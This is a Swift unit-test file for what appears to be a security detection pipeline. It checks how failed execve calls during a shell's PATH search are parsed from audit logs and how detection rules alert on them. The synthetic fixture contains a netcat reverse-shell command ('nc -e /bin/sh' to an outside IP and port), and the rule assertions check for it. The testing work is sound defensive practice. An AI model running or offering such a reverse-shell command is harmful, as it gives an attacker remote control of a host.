@testable import Alerting
@testable import AuditRecords
@testable import Detection
import DetectionTestSupport
@testable import EventModel
@testable import Events
import XCTest

/// A refused execve (each miss of a shell's `PATH` search) as the sources describe it: auditd_manager keeps the
/// caller's `exe` and title with `event.outcome: failure` and no arguments (the kernel writes no EXECVE record);
/// Elastic Defend has no `exec` for it.
final class FailedExecTests: XCTestCase {
    static let audit = ["logs-auditd_manager.auditd-*"], defend = ["logs-endpoint.events.process-*"]
    static let mixed = ["auditbeat-*", "logs-endpoint.events.*"]

    /// `sh -e ./deploy.sh` (pid 700) forks 701, which looks for `nc` in five empty `PATH` directories (ENOENT)
    /// before /usr/bin/nc runs as `nc -e /bin/sh 192.0.2.2 4444`.
    static func pathSearch() -> String {
        var log = AuditLogText()
        log.syscall(AuditLogText.execve, pid: 700, ppid: 600, comm: "sh", exe: "/usr/bin/dash",
                    argv: ["sh", "-e", "./deploy.sh"], paths: [("/bin/sh", "NORMAL", "0100755")])
        log.syscall(AuditLogText.clone, exit: 701, args: ["1200011", "0", "0", "7f00aa"], pid: 700, ppid: 600,
                    comm: "sh", exe: "/usr/bin/dash")
        for directory in 1...5 {
            log.syscall(AuditLogText.execve, success: false, exit: -2, pid: 701, ppid: 700, comm: "sh",
                        exe: "/usr/bin/dash", paths: [("/opt/p\(directory)/nc", "UNKNOWN", "0")])
        }
        log.syscall(AuditLogText.execve, pid: 701, ppid: 700, comm: "nc", exe: "/usr/bin/nc.openbsd",
                    argv: ["nc", "-e", "/bin/sh", "192.0.2.2", "4444"], paths: [("/usr/bin/nc", "NORMAL", "0100755")])
        return log.text
    }

    func testAFailedExecCarriesNoArgumentsOfTheCaller() throws {
        var stage = DocumentStage(settings: PipelineSettings(host: HostInfo(id: "test-host", name: "vm")),
                                  names: StaticNameLookup())
        var documents: [Document] = []
        for line in Self.pathSearch().split(separator: "\n") {
            guard case .success(let record) = AuditParser.parseLogLine(Array(line.utf8)) else { continue }
            for event in stage.add(record, now: record.timestamp.nanosecondsSinceEpoch) {
                documents += stage.document(for: event).map { [$0] } ?? []
            }
        }
        documents += stage.finish().compactMap { stage.document(for: $0) }
        let failed = documents.filter { $0["event.outcome"] == "failure" }
        XCTAssertEqual(failed.count, 5)
        for document in failed {
            XCTAssertEqual(document["event.action"], "executed")
            XCTAssertEqual(document["process.pid"], 701)
            XCTAssertEqual(document["process.executable"], "/usr/bin/dash", "the caller's exe, as auditd_manager")
            XCTAssertNotNil(document["process.title"])
            XCTAssertNil(document["process.args"])
            XCTAssertNil(document["process.command_line"])
            XCTAssertNil(document["process.args_count"])
        }
        XCTAssertEqual(failed.first?["file.path"], "/opt/p1/nc", "the path tried")
        let started = try XCTUnwrap(documents.last)
        XCTAssertEqual(started["process.args_count"], 5)
        XCTAssertEqual(started["process.command_line"], "nc -e /bin/sh 192.0.2.2 4444")
    }

    func testAPathSearchRaisesOneAlertShowingTheProgramThatRan() throws {
        // Tests the new program's arguments (and its parent, so the shell's own start is not it).
        let query = """
            process where event.type == "start" and event.action in ("exec", "executed") and
              process.parent.name == "sh" and process.args == "-e"
            """
        let alerts = try TextReplay.alerts(Self.pathSearch(), rules: [
            (id: "audit", query: query, index: Self.audit),
            (id: "defend", query: query, index: Self.defend),
            (id: "mixed", query: query, index: Self.mixed),
        ])
        for rule in ["audit", "defend", "mixed"] {
            XCTAssertEqual(alerts.of(rule).count, 1, rule)
            let document = alerts.of(rule).first?.events.first
            XCTAssertEqual(document?["process.executable"], "/usr/bin/nc.openbsd", rule)
            XCTAssertEqual(document?["process.args"], ["nc", "-e", "/bin/sh", "192.0.2.2", "4444"], rule)
            XCTAssertEqual(document?["event.outcome"], "success", rule)
        }
    }

    func testTheDefendViewHasNoExecForAFailedOne() throws {
        let alerts = try TextReplay.alerts(Self.pathSearch(), rules: [
            (id: "d-start", query: #"process where event.type == "start" and event.action != "fork" and process.pid == 701"#,
             index: Self.defend),
            (id: "d-failed", query: #"process where event.outcome == "failure" and event.action == null and event.type == "info""#,
             index: Self.defend),
            (id: "a-failed", query: #"process where event.action == "executed" and event.outcome == "failure""#,
             index: Self.audit),
        ])
        XCTAssertEqual(alerts.of("d-start").count, 1, "only the exec that ran")
        XCTAssertEqual(alerts.of("d-failed").count, 5, "refused execs reach Defend rules with no action, type info")
        XCTAssertEqual(alerts.of("a-failed").count, 5, "auditd_manager keeps them")
    }
}
